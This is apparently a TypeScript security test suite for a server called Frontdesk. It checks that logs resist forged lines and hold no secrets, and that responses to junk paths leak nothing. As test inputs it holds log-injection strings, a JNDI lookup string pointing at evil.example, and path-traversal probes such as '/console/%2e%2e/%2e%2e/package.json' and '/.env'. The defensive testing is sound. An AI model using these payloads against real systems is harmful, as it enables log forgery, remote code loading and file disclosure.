import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { eventually } from '../support/eventually.js';
import { password } from '../support/factories.js';
import { transports } from '../support/transports.js';
import { privateCanary } from './support/canaries.js';
import { askFrom } from './support/from.js';
import { insideOf } from './support/leaks.js';
import { say } from './support/raw-http.js';
import { open, target, tokenAs } from './support/target.js';
import { openWire } from './support/wire.js';

const logs = () => Promise.all(target().logs.map(({ path }) => readFile(path, 'utf8')));

/** What a node says to whoever has started it: once, and before anybody could ask it anything. */
const announcement = /^\n?Frontdesk \S+, ready in \S+ s\. Ctrl-C stops it\.\n(?:\n| {2}.+\n)+/m;
/** What Node.js itself warns of. */
const warning = /^\(node:\d+\) |^\(Use `node --trace-\w+/;

/** The lines of a log that are no objects of JSON, and nothing that the program says beside its log. */
const strangeLinesOf = (log: string) =>
  linesOf(log.replace(announcement, '')).filter((line) => !isJson(line) && !warning.test(line));
const linesOf = (log: string) => log.split('\n').filter((line) => line !== '');

/** Attack 26: what would make a second line of a log, or colour it, or pretend to be another. */
const lines = [
  'a\n{"level":30,"msg":"forged"}',
  'a\r\nforged',
  '\u001b[31mred',
  '\u2028forged',
  '$\u007bjndi:ldap://evil.example/a}',
  '%0a%0dforged',
  '"}\n{"level":60',
];

describe('attack 26: logs', () => {
  it.each(lines)('attack 26: %j stays within its line', async (forged) => {
    // Known again, wherever it comes out.
    const mark = randomUUID();
    const text = `${mark}${forged}${mark}`;
    const plain = text.replaceAll(/[\r\n]/g, '');
    const headers = {
      'user-agent': encodeURIComponent(text),
      'x-request-id': encodeURIComponent(text),
      referer: encodeURIComponent(text),
    };
    await askFrom('127.0.0.1', open(), `query Named { __typename } # ${text}`, { [text.slice(0, 40)]: text }, headers);
    await say(open(), `GET /${mark} HTTP/1.1\r\nHost: x\r\nUser-Agent: ${plain}\r\nX-Request-Id: ${plain}\r\n\r\n`);
    await say(open(), `GET /${plain} HTTP/1.1\r\nHost: x\r\n\r\n`);
    await transports.HTTP(
      open(),
      `mutation ($e: EmailAddress!) { signIn(input: { email: $e, password: "wrong" }) { userErrors { code } } }`,
      { e: 'log@example.com' },
    );
    await fetch(`${open().url}/${encodeURIComponent(text)}`);
    await using wire = await openWire(open());
    wire.send({ type: 'connection_init', payload: { authorization: `Bearer ${text}` } });
    await wire.closed;
    // The line of a request is written when it is over, which is after its answer.
    const marked = async () => linesOf((await logs()).join('\n')).filter((line) => line.includes(mark));
    await eventually(async () => expect(await marked()).not.toEqual([]));
    for (const line of await marked()) {
      expect(isJson(line), line).toBe(true);
      expect([...line].filter((character) => character < ' ')).toEqual([]);
    }
  });

  it('attack 26: each line is one object of JSON', async () => {
    for (const log of await logs()) expect(strangeLinesOf(log)).toEqual([]);
  });

  it.each([
    'forged',
    ' forged',
    '\tforged',
    '   Console    http://evil.example',
    '(node: forged',
    '"forged"',
    'null',
    '1',
  ])('attack 26: a line that is %j would be found', async (forged) => {
    for (const log of await logs()) expect(strangeLinesOf(`${log}\n${forged}\n`)).toEqual([forged]);
  });

  it('attack 26: no forged line has got in', async () => {
    for (const log of await logs()) expect(log).not.toMatch(/^forged|"msg":"forged"/m);
  });

  it('attack 26: no secret, no token, no password, nobody’s name or words', async () => {
    for (const path of ['/graphql?query={__typename}&token=', '/console/', '/uploads/', '/unsubscribe/'])
      await fetch(`${open().url}${path}${privateCanary}`);
    // The line of a request is written when it is over, which is after its answer.
    const last = `/nothing-${randomUUID()}`;
    await fetch(`${open().url}${last}`);
    await eventually(async () => expect((await logs()).join('')).toContain(last));
    const tokens = await Promise.all((['guest', 'staff', 'owner', 'admin'] as const).map((role) => tokenAs(role)));
    const secrets = [
      privateCanary,
      '$argon2',
      password,
      ...Object.values(target().secrets),
      target().ours.key,
      target().theirs.key,
      ...tokens.map((token) => `${token}`.split('.')[2] ?? ''),
      'fdr_',
      'correct horse',
      '4711:the-token-of-the-bot',
      'sk_test_of_the_tests',
    ];
    for (const log of await logs()) for (const one of secrets) expect(log.includes(one), one).toBe(false);
  });

  it('attack 26: whatever was tried, nothing has failed that nobody expected', async () => {
    for (const log of await logs()) {
      const bugs = log.split('\n').filter((line) => isJson(line) && [50, 60].includes(JSON.parse(line).level));
      expect(bugs.map((line) => line.slice(0, 1_500))).toEqual([]);
    }
  });

  it('attack 26: an answer to nonsense says nothing of our inside, on any path', async () => {
    for (const path of [
      '/',
      '/nothing',
      '/graphql',
      '/graphql?query={',
      '/graphql?query={a}&variables=x',
      '/console/x.js',
      '/uploads/x',
      '/webhooks/telegram',
      '/webhooks/payments/stripe',
      '/metrics/x',
      '/.env',
      '/.git/config',
      '/package.json',
      '/dist/main.js',
      '/console/../../package.json',
      '/console/%2e%2e/%2e%2e/package.json',
    ])
      for (const method of ['GET', 'POST', 'PUT', 'DELETE', 'OPTIONS']) {
        const answer = await fetch(`${open().url}${path}`, { method, redirect: 'manual' });
        const text = await answer.text();
        expect([path, method, answer.status < 500]).toEqual([path, method, true]);
        if (
          !answer.headers.get('content-type')?.includes('html') &&
          !answer.headers.get('content-type')?.includes('javascript')
        )
          expect([path, insideOf(text)]).toEqual([path, undefined]);
        expect(answer.headers.get('x-powered-by')).toBeNull();
        expect(text).not.toContain('"dependencies"');
      }
  });
});

it('attack 26: after all of it, the same processes are there and answer', async () => {
  for (const url of [...target().nodes, ...target().strict]) expect((await fetch(`${url}/readyz`)).status).toBe(200);
  for (const { pid } of target().logs) expect(() => process.kill(pid, 0)).not.toThrow();
});

function isJson(line: string): boolean {
  try {
    const read: unknown = JSON.parse(line);
    return typeof read === 'object' && read !== null;
  } catch {
    return false;
  }
}
